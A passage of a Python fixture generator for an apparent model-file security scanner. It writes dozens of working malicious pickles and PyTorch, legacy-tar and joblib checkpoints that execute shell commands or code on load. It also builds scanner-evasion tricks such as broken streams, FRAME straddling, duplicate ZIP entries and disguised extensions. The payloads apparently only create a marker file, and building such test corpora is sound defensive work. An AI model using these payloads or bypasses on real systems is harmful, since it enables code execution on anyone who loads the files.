        code.append('try:\n    FILE = %r\n    %s\n    res[%r] = None\nexcept BaseException as e:\n'
                    '    res[%r] = repr(e)[:200]' % (path, body, path, path))
    code.append('print(json.dumps(res))')
    with tempfile.TemporaryDirectory(prefix='mg-benign-') as td:
        marker = os.path.join(td, 'marker-from-env')
        r = subprocess.run([sys.executable, '-c', '\n'.join(code)], cwd=td, capture_output=True,
                           text=True, env=dict(os.environ, MODELGATE_MARKER=marker), timeout=600)
        markered = os.path.exists(marker) or os.path.exists(os.path.join(td, BAKED))
    if r.returncode != 0:
        raise SystemExit('benign verification crashed:\n' + r.stderr[-3000:])
    res = json.loads(r.stdout.strip().splitlines()[-1])
    if markered:
        raise SystemExit('a benign fixture created the marker!')
    for e in MANIFEST:
        if e['label'] != 'benign':
            continue
        err = res.get(os.path.join(FIX, e['file']))
        e['proven'] = err is None
        if err:
            print('  benign fixture did not load cleanly: %s: %s' % (e['file'], err))
            e['notes'] = ((e.get('notes') + ' | ') if e.get('notes') else '') + 'load error: ' + err


# --------------------------------------------------------------------------------------
# malicious
# --------------------------------------------------------------------------------------
def _mg_sleepy_forward(self, x):
    """Replacement nn.Linear.forward planted by the sleepy-pickle fixture."""
    import os as _os
    open(_os.environ.get('MODELGATE_MARKER', '/tmp/modelgate-marker'), 'a').close()
    return x


def inject(pickle_bytes, payload_expr=None):
    """Run payload (default os.system) then POP, then the original pickle's body: same result."""
    assert pickle_bytes[:1] == b'\x80'
    proto = pickle_bytes[1]
    payload = emit(payload_expr or sh_call(), max(proto, 2))
    return pickle_bytes[:2] + payload + b'0' + pickle_bytes[2:]


def split_pickles(data, count):
    """Byte ranges of the first `count` consecutive pickles in data."""
    import pickletools
    bio, out = io.BytesIO(data), []
    for _ in range(count):
        start = bio.tell()
        for _op in pickletools.genops(bio):
            pass
        out.append((start, bio.tell()))
    return out


def code_args():
    c = compile(PY_CODE, '<modelgate>', 'exec')
    return (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals, c.co_stacksize,
            c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames, c.co_filename, c.co_name,
            c.co_qualname, c.co_firstlineno, c.co_linetable, c.co_exceptiontable, c.co_freevars,
            c.co_cellvars)


def gen_malicious_pickles():
    import marshal
    import subprocess as sp
    print('malicious pickles:')
    P = 'pickle'
    L = 'pickle.load'
    W = write_malicious
    # -- classic __reduce__ through pickle.dumps (module recorded as posix)
    for p in (0, 2, 4):
        W('posix_system_reduce_p%d.pkl' % p, pickle.dumps(Reduce(os.system, (SHELL_CMD,)), protocol=p),
          P, 'pickle.dumps of __reduce__ -> os.system (recorded as posix.system), protocol %d' % p, '2', L)
    W('os_system_global_p0.pkl', asm(sh_call(), 0), P,
      "hand-written protocol 0: GLOBAL 'os\\nsystem' + REDUCE", '2', L)
    W('os_system_stack_global_p4.pkl', asm(sh_call(), 4), P,
      "STACK_GLOBAL('os','system') from SHORT_BINUNICODE operands + REDUCE", '2', L)
    W('os_system_global_opcode_p4.pkl', asm(Call(G('os', 'system', 'global'), SHELL_CMD), 4), P,
      'GLOBAL opcode (not STACK_GLOBAL) inside a protocol 4 pickle', '2', L)
    W('os_popen.pkl', pickle.dumps(Reduce(os.popen, (SHELL_CMD,)), protocol=4), P, 'os.popen(cmd)', '2', L)
    W('os_spawnlp.pkl', asm(Call(G('os', 'spawnlp'), 0, 'sh', 'sh', '-c', SHELL_CMD)), P,
      'os.spawnlp(P_WAIT, "sh", ...) (os-module python function)', '2', L)
    W('subprocess_popen.pkl', pickle.dumps(Reduce(sp.Popen, (['sh', '-c', SHELL_CMD],)), protocol=4), P,
      'subprocess.Popen([sh, -c, cmd])', '2', L)
    W('subprocess_call.pkl', pickle.dumps(Reduce(sp.call, (['sh', '-c', SHELL_CMD],)), protocol=2), P,
      'subprocess.call([sh, -c, cmd]) protocol 2', '2', L)
    W('subprocess_check_output.pkl', pickle.dumps(Reduce(sp.check_output, (['sh', '-c', SHELL_CMD],)),
                                                  protocol=4), P, 'subprocess.check_output', '2', L)
    W('subprocess_run.pkl', pickle.dumps(Reduce(sp.run, (['sh', '-c', SHELL_CMD],)), protocol=3), P,
      'subprocess.run protocol 3', '2', L)
    # -- builtins
    W('builtins_exec.pkl', pickle.dumps(Reduce(exec, (PY_CODE,)), protocol=4), P, 'builtins.exec(code string)', '2', L)
    W('builtins_eval.pkl', pickle.dumps(Reduce(eval, (PY_EXPR,)), protocol=4), P, 'builtins.eval(expression)', '2', L)
    W('builtins_eval_py2name_p2.pkl', asm(Call(G('__builtin__', 'eval'), PY_EXPR), 2), P,
      "GLOBAL '__builtin__\\neval' (python 2 name, mapped by fix_imports) protocol 2", '2', L)
    W('builtins_compile_exec.pkl', asm(Call(G('builtins', 'exec'),
                                            Call(G('builtins', 'compile'), PY_CODE, '<m>', 'exec'))), P,
      'exec(compile(code))', '2', L)
    W('builtins_import_getattr.pkl', asm(Call(Call(G('builtins', 'getattr'), Call(G('builtins', '__import__'), 'os'),
                                                   'system'), SHELL_CMD)), P,
      "getattr(__import__('os'), 'system')(cmd): no os global in the stream", '3.1.2', L)
    W('getattr_builtins_exec.pkl', asm(Call(Call(G('builtins', 'getattr'),
                                                 Call(G('builtins', '__import__'), 'builtins'), 'exec'), PY_CODE)), P,
      "getattr(__import__('builtins'), 'exec')(code)", '3.1.2', L)
    W('builtins_open_write.pkl', asm(Call(G('builtins', 'open'), BAKED, 'w')), P,
      'builtins.open("modelgate-marker", "w") creates a file', '3.1.8', L)
    # -- operator / functools / resolvers
    imp_os = Call(G('builtins', '__import__'), 'os')
    mod_os = Call(G('importlib', 'import_module'), 'os')
    W('operator_methodcaller.pkl', asm(Call(Call(G('operator', 'methodcaller'), 'system', SHELL_CMD), imp_os)), P,
      "operator.methodcaller('system', cmd)(__import__('os'))", '3.1.2', L)
    W('_operator_methodcaller.pkl', asm(Call(Call(G('_operator', 'methodcaller'), 'system', SHELL_CMD), mod_os)), P,
      "_operator.methodcaller alias + importlib.import_module('os')", '3.1.1,3.1.2', L)
    W('operator_attrgetter.pkl', asm(Call(Call(Call(G('operator', 'attrgetter'), 'system'), mod_os), SHELL_CMD)), P,
      "operator.attrgetter('system')(importlib.import_module('os'))(cmd)", '3.1.1,3.1.2', L)
    W('operator_itemgetter_vars.pkl', asm(Call(Call(Call(G('operator', 'itemgetter'), 'system'),
                                                    Call(G('builtins', 'vars'), mod_os)), SHELL_CMD)), P,
      "operator.itemgetter('system')(vars(import_module('os')))(cmd)", '3.1.2', L)
    W('functools_partial_os_system.pkl',
      pickle.dumps(Reduce(functools.partial(os.system, SHELL_CMD), ()), protocol=4), P,
      'functools.partial(os.system, cmd) rebuilt via REDUCE+BUILD(__setstate__) then called', '2', L)
    W('pkgutil_resolve_name.pkl', asm(Call(Call(G('pkgutil', 'resolve_name'), 'os:system'), SHELL_CMD)), P,
      "pkgutil.resolve_name('os:system')(cmd): universal resolver", '3.1.1', L)
    W('pydoc_locate.pkl', asm(Call(Call(G('pydoc', 'locate'), 'os.system'), SHELL_CMD)), P,
      "pydoc.locate('os.system')(cmd)", '3.1.1', L)
    W('inspect_getattr_static.pkl', asm(Call(Call(G('inspect', 'getattr_static'), mod_os, 'system'), SHELL_CMD)), P,
      "inspect.getattr_static(importlib.import_module('os'), 'system')(cmd)", '3.1.1', L)
    # -- exec by another name
    W('runpy_run_code.pkl', asm(Call(G('runpy', '_run_code'), PY_CODE, {})), P, 'runpy._run_code(code, {})', '3.1.4', L)
    W('code_interactiveinterpreter_runcode.pkl',
      asm(Call(G('code', 'InteractiveInterpreter.runcode'), Call(G('code', 'InteractiveInterpreter')), PY_CODE)), P,
      "dotted STACK_GLOBAL('code','InteractiveInterpreter.runcode')(instance, code)", '3.1.4', L)
    W('timeit_timeit.pkl', asm(Call(G('timeit', 'timeit'), PY_CODE, 'pass', G('time', 'perf_counter'), 1)), P,
      'timeit.timeit(code, "pass", time.perf_counter, 1)', '3.1.4', L)
    W('cprofile_run.pkl', asm(Call(G('cProfile', 'run'), PY_CODE)), P, 'cProfile.run(code)', '3.1.4', L)
    W('profile_run.pkl', asm(Call(G('profile', 'run'), PY_CODE)), P, 'profile.run(code)', '3.1.4', L)
    W('trace_trace_run.pkl', asm(Call(G('trace', 'Trace.run'), Call(G('trace', 'Trace'), 0, 0), PY_CODE)), P,
      "dotted STACK_GLOBAL('trace','Trace.run')(Trace(0,0), code)", '3.1.4', L)
    W('numpy_testing_runstring.pkl', asm(Call(G('numpy.testing._private.utils', 'runstring'), PY_CODE, {})), P,
      'numpy.testing._private.utils.runstring(code, {}) (exec)', '3.1.4', L)
    W('torch_execwrapper.pkl', asm(Call(G('torch.jit.unsupported_tensor_ops', 'execWrapper'), PY_CODE, {}, {})), P,
      'torch.jit.unsupported_tensor_ops.execWrapper(code, {}, {}) (exec)', '3.1.5', L)
    W('test_support_assert_python_ok.pkl',
      asm(Call(G('test.support.script_helper', 'assert_python_ok'), '-c', PY_CODE)), P,
      "test.support.script_helper.assert_python_ok('-c', code) spawns python", '3.1.3', L)
    # -- stdlib/torch functions that shell out
    W('torch_collect_env_run.pkl', asm(Call(G('torch.utils.collect_env', 'run'), SHELL_CMD)), P,
      'torch.utils.collect_env.run(cmd) (Popen shell=True)', '3.1.5', L)
    W('uuid_get_command_stdout.pkl', asm(Call(G('uuid', '_get_command_stdout'), 'touch', BAKED)), P,
      "uuid._get_command_stdout('touch', 'modelgate-marker')", '3.1.3', L)
    W('osx_support_read_output.pkl', asm(Call(G('_osx_support', '_read_output'), SHELL_CMD)), P,
      '_osx_support._read_output(cmd) (os.system, works on Linux too)', '3.1.3', L)
    W('imaplib_imap4_stream.pkl', asm(Call(G('imaplib', 'IMAP4_stream'), SHELL_CMD)), P,
      'imaplib.IMAP4_stream(cmd) (Popen shell=True; raises after the command ran)', '3.1.3', L)
    W('multiprocessing_spawnv_passfds.pkl',
      asm(Call(G('multiprocessing.util', 'spawnv_passfds'), b'/bin/sh', [b'sh', b'-c', SHELL_CMD.encode()], [])),
      P,
      'multiprocessing.util.spawnv_passfds(/bin/sh, [sh,-c,cmd], [])', '3.1.3', L)
    W('distutils_spawn.pkl', asm(Call(G('distutils.spawn', 'spawn'), ['sh', '-c', SHELL_CMD])), P,
      'distutils.spawn.spawn([sh, -c, cmd])', '3.1.3', L)
    W('ctypes_cdll_libc_system.pkl',
      asm(Call(Call(G('builtins', 'getattr'), Call(G('ctypes', 'CDLL'), None), 'system'), SHELL_CMD.encode())), P,
      'getattr(ctypes.CDLL(None), "system")(b"cmd") - libc system() through ctypes', '3.1.8', L)
    # -- file-system side effects
    W('logging_filehandler.pkl', asm(Call(G('logging', 'FileHandler'), BAKED)), P,
      'logging.FileHandler("modelgate-marker") creates the file', '3.1.8', L)
    W('io_fileio.pkl', asm(Call(G('_io', 'FileIO'), BAKED, 'w')), P, '_io.FileIO("modelgate-marker","w")', '3.1.8', L)
    W('io_open.pkl', asm(Call(G('io', 'open'), BAKED, 'a')), P, 'io.open("modelgate-marker","a")', '3.1.8', L)
    W('shutil_copy.pkl', asm(Call(G('shutil', 'copy'), '/dev/null', BAKED)), P,
      'shutil.copy("/dev/null", "modelgate-marker")', '3.1.8', L)
    # -- code objects
    code = compile(PY_CODE, '<modelgate>', 'exec')
    W('marshal_functiontype.pkl', asm(Call(Call(G('types', 'FunctionType'), Call(G('marshal', 'loads'),
                                                                                   marshal.dumps(code)), {}))), P,
      'types.FunctionType(marshal.loads(bytecode), {})() (CPython-3.11-specific bytecode)', '3.1.7', L)
    W('codetype_functiontype.pkl', asm(Call(Call(G('types', 'FunctionType'),
                                                 Call(G('types', 'CodeType'), *code_args()), {}))), P,
      'types.CodeType(...) -> FunctionType(code, {})() (3.11 constructor signature)', '3.1.7', L)
    W('newobj_codetype_functiontype.pkl',
      asm(Call(NewObj(G('types', 'FunctionType'), (NewObj(G('types', 'CodeType'), code_args()), {})))), P,
      'NEWOBJ CodeType / NEWOBJ FunctionType (cls.__new__ builds them) then REDUCE calls it', '3.1.7,3.2.19', L)
    W('newobj_ex_functiontype.pkl',
      asm(Call(NewObj(G('types', 'FunctionType'), (NewObj(G('types', 'CodeType'), code_args(), {}), {}), {}))), P,
      'NEWOBJ_EX CodeType / FunctionType then REDUCE', '3.1.7,3.2.19', L)
    import cloudpickle
    import dill
    W('cloudpickle_function.pkl', cloudpickle.dumps(Reduce(_mg_payload_function, ())), P,
      'cloudpickle by-value function (_make_function/_builtin_type/CodeType) called by REDUCE', '3.1.7', L)
    W('dill_function.pkl', dill.dumps(Reduce(_mg_payload_function, ())), P,
      'dill by-value function (dill._dill._create_code/_create_function) called by REDUCE', '3.1.7',
      'dill.load')
    # -- copyreg, attribute walks, allowlist shadowing
    W('copyreg_reconstructor_popen.pkl',
      asm(Call(G('copyreg', '_reconstructor'), G('subprocess', 'Popen'), G('subprocess', 'Popen'),
               ['sh', '-c', SHELL_CMD])), P,
      'copyreg._reconstructor(Popen, Popen, args) runs Popen.__init__ (commonly allowlisted callable)', '3.1.10', L)
    W('allowlist_walk_numpy_builtins.pkl',
      asm(Call(Call(G('collections', 'OrderedDict.get'), G('numpy', '__builtins__'), 'eval'), PY_EXPR)), P,
      "STACK_GLOBAL('numpy','__builtins__') (a dict) + dotted 'collections','OrderedDict.get' -> eval",
      '3.1.9,3.1.10', L)
    W('dotted_torch_serialization_os_system.pkl', asm(Call(G('torch', 'serialization.os.system'), SHELL_CMD)), P,
      "STACK_GLOBAL('torch','serialization.os.system'): dotted attribute walk to os.system", '3.1.9', L)
    W('dotted_logging_os_system.pkl', asm(Call(G('logging', 'os.system'), SHELL_CMD)), P,
      "STACK_GLOBAL('logging','os.system')", '3.1.9', L)
    W('dotted_global_opcode_p4.pkl', asm(Call(G('torch', 'serialization.os.system', 'global'), SHELL_CMD)), P,
      "GLOBAL 'torch\\nserialization.os.system' under PROTO 4 (dotted names honoured for proto>=4)", '3.1.9', L)
    W('submodule_asyncio_unix_events_os.pkl',
      asm(Call(G('asyncio.unix_events', 'os.system'), SHELL_CMD)), P,
      "sub-module of a denied package + dotted name: ('asyncio.unix_events','os.system')", '3.1.9', L)
    # -- pickle-in-pickle loaders
    inner = pickle.dumps(Reduce(os.system, (SHELL_CMD,)), protocol=2)
    W('nested_pickle_loads.pkl', asm(Call(G('pickle', 'loads'), inner)), P,
      'pickle.loads(<constant bytes holding a malicious pickle>)', '3.2.23', L)
    W('nested__pickle_loads.pkl', asm(Call(G('_pickle', 'loads'), inner)), P,
      '_pickle.loads(<inner malicious pickle>)', '3.2.23', L)
    W('lib2to3_grammar_loads.pkl', asm(Call(G('lib2to3.pgen2.grammar', 'Grammar.loads'),
                                            Call(G('lib2to3.pgen2.grammar', 'Grammar')), inner)), P,
      'lib2to3 Grammar().loads(<inner pickle>) (pickle.loads inside)', '3.1.4,3.2.23', L)
    inner_torch = torch_bytes({'x': Reduce(os.system, (SHELL_CMD,))}, legacy=True)
    W('torch_storage_load_from_bytes.pkl', asm(Call(G('torch.storage', '_load_from_bytes'), inner_torch)), P,
      'torch.storage._load_from_bytes(<legacy torch file bytes>) -> torch.load', '3.1.5,3.2.23', L)
    W('torch_serialization_load_bytesio.pkl',
      asm(Call(G('torch.serialization', 'load'), Call(G('_io', 'BytesIO'), inner_torch))), P,
      'torch.serialization.load(io.BytesIO(<legacy torch bytes>))', '3.1.5,3.2.23', L)
    W('joblib_load_bytesio.pkl', asm(Call(G('joblib', 'load'), Call(G('_io', 'BytesIO'), inner))), P,
      'joblib.load(io.BytesIO(<inner malicious pickle>))', '3.2.23', L)
    W('dill_loads_nested.pkl', asm(Call(G('dill', 'loads'), inner)), P, 'dill.loads(<inner pickle>)', '3.2.23', L)
    import numpy as np
    arr = np.empty(1, dtype=object)
    arr[0] = Reduce(os.system, (SHELL_CMD,))
    W('numpy_load_bytesio.pkl', asm(Call(G('numpy', 'load'), Call(G('_io', 'BytesIO'), npy_bytes(arr)), None, True)),
      P, 'numpy.load(io.BytesIO(<object .npy>), None, True) - allow_pickle passed positionally', '3.2.23,3.3.32', L)
    W('torch_bottleneck_run_cprofile.pkl', asm(Call(G('torch.utils.bottleneck.__main__', 'run_cprofile'),
                                                    PY_CODE, {})), P,
      'torch.utils.bottleneck.__main__.run_cprofile(code, {})', '3.1.5', L)
    W('pty_spawn.pkl', asm(Call(G('pty', 'spawn'), ['sh', '-c', SHELL_CMD])), P, 'pty.spawn([sh, -c, cmd])',
      '3.1.3', L)
    W('doctest_debug_script.pkl', asm(Call(G('doctest', 'debug_script'), PY_CODE)), P,
      'doctest.debug_script(src) (runs src under pdb)', '3.1.4', L, allow_unproven=True,
      unproven_reason='pdb stops before the first line; with no terminal (stdin EOF) it quits, so the code runs '
      'only if someone types "continue"')
    gen_opcode_tricks()


def gen_opcode_tricks():
    print('hand-written opcode tricks:')
    P, L, W = 'pickle', 'pickle.load', write_malicious
    cmd4 = emit((SHELL_CMD,), 4)

    def u(s):
        return _str(s, 4)
    # STACK_GLOBAL operands from the memo
    W('stack_global_binget.pkl', b'\x80\x04' + u('os') + b'q\x00' + b'0' + u('system') + b'q\x01' + b'0' +
      b'h\x00h\x01\x93' + cmd4 + b'R.', P,
      'STACK_GLOBAL operands fetched with BINGET after BINPUT+POP (no string right before \\x93)', '3.2.17', L)
    # proto-0 STRING operands, no PROTO at all
    W('stack_global_string_noproto.pkl', b"S'os'\nS'system'\n\x93(S'" + SHELL_CMD.encode() + b"'\ntR.", P,
      'no PROTO; STACK_GLOBAL fed by protocol-0 STRING opcodes (C unpickler accepts \\x93 in any protocol)',
      '3.2.17', L)
    W('stack_global_binstring.pkl', b'\x80\x02T' + struct.pack('<I', 2) + b'osU\x06system\x93' +
      b'(U' + bytes([len(SHELL_CMD)]) + SHELL_CMD.encode() + b'tR.', P,
      'STACK_GLOBAL fed by BINSTRING / SHORT_BINSTRING (bytes decoded as ASCII str)', '3.2.17', L)
    W('stack_global_binunicode8.pkl', b'\x80\x04\x8d' + struct.pack('<Q', 2) + b'os' + b'X' +
      struct.pack('<I', 6) + b'system\x93' + cmd4 + b'R.', P,
      'STACK_GLOBAL fed by BINUNICODE8 and BINUNICODE', '3.2.17', L)
    rot = Call(G('_codecs', 'decode'), 'bf', 'rot13')
    rot2 = Call(G('_codecs', 'decode'), 'flfgrz', 'rot13')
    W('stack_global_computed_operands.pkl', b'\x80\x04' + emit(rot, 4) + emit(rot2, 4) + b'\x93' + cmd4 + b'R.', P,
      "STACK_GLOBAL(_codecs.decode('bf','rot13'), _codecs.decode('flfgrz','rot13')) = os.system: "
      'operands are REDUCE results', '3.2.17', L)
    # memo tricks
    W('memo_overwrite_type_confusion.pkl', b'\x80\x04K\x01q\x00' + b'0' + u('os') + b'q\x00' + b'0' +
      u('system') + b'q\x01' + b'0' + b'h\x00h\x01\x93' + cmd4 + b'R.', P,
      'memo slot 0 first holds an int, then is overwritten (BINPUT 0) with "os"; BINGET 0 must see the last write',
      '3.2.16', L)
    W('memoize_index_confusion.pkl', b'\x80\x04' + u('junk') + b'q\x05' + b'0' + u('os') + b'\x94' + b'0' +
      u('system') + b'\x94' + b'0' + b'h\x01h\x02\x93' + cmd4 + b'R.', P,
      'MEMOIZE index = len(memo) (not a counter, not max+1): BINPUT 5 first, then MEMOIZE -> 1, 2', '3.2.16', L)
    W('keyerror_after_payload.pkl', b'\x80\x04' + emit(sh_call(), 4) + b'0h\x63.', P,
      'payload REDUCE then BINGET of a never-PUT index (KeyError) - the payload already ran', '3.2.11,3.2.16', L)
    # INST / OBJ
    W('inst_opcode_p0.pkl', b'(V' + SHELL_CMD.encode() + b'\nios\nsystem\n.', P,
      "INST 'os\\nsystem' with MARKed args (instantiate() calls it)", '3.2.19', L)
    W('obj_opcode.pkl', b'\x80\x02(cos\nsystem\n' + emit(SHELL_CMD, 2) + b'o.', P,
      'OBJ opcode: MARK, callable, args, OBJ', '3.2.19', L)
    W('obj_pop.pkl', b'\x80\x02(cos\nsystem\n' + emit(SHELL_CMD, 2) + b'o0' + emit({'ok': 1}, 2) + b'.', P,
      'OBJ then POP (call result discarded; invisible to decompilers) then a benign result', '3.2.19', L)
    W('reduce_pop.pkl', b'\x80\x04' + emit({'weights': [1, 2]}, 4) + emit(sh_call(), 4) + b'0.', P,
      'benign dict pushed, payload REDUCE then POP, STOP returns the dict', '3.2.19,3.3.27', L)
    # broken streams (nullifAI)
    body = b'\x80\x04' + emit({'weights': [1, 2]}, 4) + emit(sh_call(), 4)
    W('nullifai_garbage_after_reduce.pkl', body + b'\x00\xff\xfe garbage', P,
      'payload REDUCE then invalid opcode bytes, no STOP (nullifAI broken pickle)', '3.2.11', L)
    W('nullifai_truncated_no_stop.pkl', body, P, 'payload REDUCE then EOF, no STOP', '3.2.11', L)
    # stacked pickles
    W('stacked_benign_then_malicious.pkl', pickle.dumps({'weights': [1.0, 2.0]}, protocol=4) +
      pickle.dumps(Reduce(os.system, (SHELL_CMD,)), protocol=4), P,
      'a benign pickle, then a malicious second pickle in the same file', '3.2.21',
      'pickle.load (repeated until EOF)')
    # FRAME straddle
    payload = emit(sh_call(), 4) + b'0'
    j, k = 8, 16
    fake_len = j + 1 + len(payload)
    data = b'A' * k + b'B' + struct.pack('<I', fake_len) + b'J' * j
    frame_body = b'}' + b'B' + struct.pack('<I', len(data)) + data[:k]
    straddle = b'\x80\x04\x95' + struct.pack('<Q', len(frame_body)) + frame_body + data[k:] + b'0' + payload + b'.'
    W('frame_straddle.pkl', straddle, P,
      'FRAME ends inside a BINBYTES argument; at the frame end the data holds a fake BINBYTES header whose length '
      'swallows the real GLOBAL/REDUCE: a frame-chunked reader sees bytes, the C unpickler (frames ignored '
      'except for an availability check) executes it; pure-python pickle._Unpickler raises', '3.2.18', L)
    # no PROTO, .bin
    W('proto0_no_proto.bin', pickle.dumps(Reduce(os.system, (SHELL_CMD,)), protocol=0), P,
      'protocol 0 pickle (no \\x80 PROTO) named .bin', '3.2.14', L)
    W('proto1_no_proto.bin', pickle.dumps(Reduce(os.system, (SHELL_CMD,)), protocol=1), P,
      'protocol 1 pickle (no PROTO) named .bin', '3.2.14', L)
    # EXT opcodes: only work if the loading process registered the code with copyreg.add_extension
    W('ext1_registry.pkl', b'\x80\x02\x82\xf0' + emit((SHELL_CMD,), 2) + b'R.', P,
      'EXT1 240 (copyreg extension registry) as the callable: no GLOBAL opcode at all', '3.2.20', None,
      allow_unproven=True, unproven_reason='a stock interpreter has an empty extension registry; executes '
      'only where copyreg.add_extension(module, name, 240) was called (e.g. by an imported library)')
    W('ext2_ext4_registry.pkl', b'\x80\x02\x83\x34\x12' + emit((SHELL_CMD,), 2) + b'R0\x84\x78\x56\x34\x02' +
      emit((SHELL_CMD,), 2) + b'R.', P, 'EXT2 0x1234 and EXT4 0x2345678 as callables', '3.2.20', None,
      allow_unproven=True, unproven_reason='needs codes registered with copyreg.add_extension')
    # lying extensions
    W('weights.safetensors', pickle.dumps({'weight': [0.0], 'x': Reduce(os.system, (SHELL_CMD,))}, protocol=4),
      P, 'pickle named .safetensors', '3.2.14', L)
    W('config.json', pickle.dumps(Reduce(os.system, (SHELL_CMD,)), protocol=0), P,
      'protocol 0 pickle named .json', '3.2.14', L)


def zip_patch(data, member_suffix, kind):
    d = bytearray(data)
    for cp, name, lho in zip_members(d):
        if not name.endswith(member_suffix):
            continue
        if kind == 'crc':
            crc = struct.unpack_from('<I', d, cp + 16)[0] ^ 0xdeadbeef
            struct.pack_into('<I', d, cp + 16, crc)
            struct.pack_into('<I', d, lho + 14, crc)
        elif kind.startswith('lflag'):
            bit = int(kind[5:], 16)
            struct.pack_into('<H', d, lho + 6, struct.unpack_from('<H', d, lho + 6)[0] | bit)
        elif kind == 'lname':
            fnl = struct.unpack_from('<H', d, lho + 26)[0]
            fake = (name.rsplit(b'/', 1)[0] + b'/README.md').ljust(fnl, b'_')[:fnl]
            d[lho + 30:lho + 30 + fnl] = fake
    return bytes(d)


def gen_malicious_containers():
    import numpy as np
    import torch
    import torch.nn as nn
    print('malicious containers:')
    W = write_malicious
    TL = 'torch.load'
    torch.manual_seed(0)
    sd = nn.Linear(3, 2).state_dict()
    evil = Reduce(os.system, (SHELL_CMD,))
    mal_ckpt = {'state_dict': sd, 'epoch': 1, 'extra': evil}
    tz = torch_bytes(mal_ckpt)
    W('torch_zip_reduce.pt', tz, 'pytorch-zip', 'torch.save zip: state_dict plus an object whose __reduce__ is '
      'os.system', '2', TL)
    W('innocent.txt', tz, 'pytorch-zip', 'malicious torch zip checkpoint named .txt (torch.load ignores the '
      'extension; torch requires the inner pickle be <dir>/data.pkl so the outer name lies instead)',
      '3.2.14', TL)
    W('torch_zip_bad_crc.pt', zip_patch(tz, b'data.pkl', 'crc'), 'pytorch-zip',
      'CRC-32 of data.pkl corrupted (local + central): Python zipfile/Go archive/zip reject, torch ignores CRC',
      '3.2.13', TL)
    W('torch_zip_encrypted_flag_local.pt', zip_patch(tz, b'data.pkl', 'lflag1'), 'pytorch-zip',
      'general-purpose flag bit 0 (encrypted) set in the LOCAL header of data.pkl only; torch (miniz) and Python '
      'zipfile use the central directory flags (both set -> torch refuses)', '3.2.13', TL)
    W('torch_zip_flags_0x41_local.pt', zip_patch(tz, b'data.pkl', 'lflag41'), 'pytorch-zip',
      'flag bits 0x40|0x01 (strong encryption) in the local header only', '3.2.13', TL)
    W('torch_zip_name_mismatch.pt', zip_patch(tz, b'data.pkl', 'lname'), 'pytorch-zip',
      'local-header file name differs from the central-directory name "archive/data.pkl" (torch uses the central '
      'directory; Python zipfile raises)', '3.2.13', TL)
    src = zipfile.ZipFile(io.BytesIO(tz))
    ents = [(n, src.read(n)) for n in src.namelist()]
    W('torch_zip_deflated.pt', zip_bytes(ents, zipfile.ZIP_DEFLATED), 'pytorch-zip',
      'torch zip re-packed with DEFLATE members (torch.save only stores; miniz inflates on load)', '3.2.22', TL)
    benign_pkl = zipfile.ZipFile(io.BytesIO(torch_bytes({'state_dict': sd, 'epoch': 1}))).read('archive/data.pkl')
    W('torch_zip_dup_datapkl_first.pt', zip_bytes(ents + [('archive/data.pkl', benign_pkl)]), 'pytorch-zip',
      'two archive/data.pkl entries: malicious FIRST, benign last. Python zipfile (last wins) sees the benign one; '
      'torch executes the malicious one', '3.2.13', TL)
    W('torch_zip_dup_datapkl_last.pt', zip_bytes([('archive/data.pkl', benign_pkl)] + ents), 'pytorch-zip',
      'two archive/data.pkl entries: benign first, malicious LAST (fools first-wins readers)', '3.2.13', TL)
    W('torch_zip_odd_dirname.pt', zip_bytes([('weights_only_safe/' + n.split('/', 1)[1], d) for n, d in ents]),
      'pytorch-zip', 'torch zip whose top directory is "weights_only_safe/" instead of "archive/"', '3.2.14', TL)
    W('torch_zip_sleepy_pickle.pt', torch_bytes_cloudpickle({'state_dict': sd, 'hook': Reduce(
        setattr, (nn.Linear, 'forward', _mg_sleepy_forward))}), 'pytorch-zip',
      'sleepy pickle: builtins.setattr(torch.nn.Linear, "forward", <cloudpickled function>) - no os/subprocess, '
      'the harm happens when the model is used', '3.3.27,3.1.7', 'torch.load (then nn.Linear forward)')
    # legacy format
    legacy = torch_bytes(mal_ckpt, legacy=True)
    W('torch_legacy_reduce.pt', legacy, 'pytorch-legacy', 'legacy torch.save(_use_new_zipfile_serialization=False) '
      'with a __reduce__ payload in the main pickle', '2', TL)
    benign_legacy = torch_bytes({'state_dict': sd, 'epoch': 1}, legacy=True)
    rng = split_pickles(benign_legacy, 5)  # magic, protocol, sys_info, main, storage keys
    (m0, m1), (s0, s1), (k0, k1) = rng[0], rng[2], rng[4]
    magic_eval = asm(Call(G('builtins', 'eval'), '(%s, 0x1950a86a20f9469cfc6c)[1]' % PY_EXPR), 2)
    W('torch_legacy_magic_bypass.pt', magic_eval + benign_legacy[m1:], 'pytorch-legacy',
      'legacy torch file whose magic-number pickle is eval("(payload, MAGIC)[1]"): no literal magic for a scanner '
      'to find, the load then proceeds normally', '3.2.15', TL)
    W('torch_legacy_magic_injected.pt', inject(benign_legacy[m0:m1]) + benign_legacy[m1:], 'pytorch-legacy',
      'payload REDUCE+POP injected in front of the magic-number long in the first pickle', '3.2.15,3.2.21', TL)
    W('torch_legacy_sys_info_payload.pt', benign_legacy[:s0] + inject(benign_legacy[s0:s1]) + benign_legacy[s1:],
      'pytorch-legacy', 'payload in the 3rd (sys_info) pickle of a legacy file; main pickle benign', '3.2.21', TL)
    W('torch_legacy_storage_keys_payload.pt', benign_legacy[:k0] + inject(benign_legacy[k0:k1]) +
      benign_legacy[k1:], 'pytorch-legacy',
      'payload in the 5th pickle (storage key list, after the main pickle) of a legacy file', '3.2.21', TL)
    W('polyglot_pickle_then_torch_zip.pt', pickle.dumps(evil, protocol=2) + torch_bytes({'state_dict': sd}),
      'pickle', 'malicious pickle followed by a complete benign torch zip: zipfile/is_zipfile see a valid benign '
      'zip (prefix tolerated), torch.load sees no PK at offset 0 -> legacy path -> unpickles the prefix',
      '3.2.21', TL)
    # legacy tar format
    tar = tar_bytes([('storages', pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
                     ('tensors', pickle.dumps(0, protocol=2)),
                     ('pickle', pickle.dumps({'extra': evil}, protocol=2))])
    W('torch_legacy_tar.tar', tar, 'pytorch-tar', 'ancient torch tar format (storages/tensors/pickle members) with '
      'a payload in the "pickle" member; torch.load tries tar first', '3.2.21,3.2.22', TL)
    # joblib
    JL = 'joblib.load'
    W('joblib_reduce.joblib', joblib_bytes({'model': 'x', 'extra': evil}), 'joblib', 'joblib.dump of a __reduce__ '
      'payload', '3.3.35', JL)
    W('joblib_payload_after_array.joblib', joblib_bytes({'arr': np.arange(512, dtype=np.int64), 'extra': evil}),
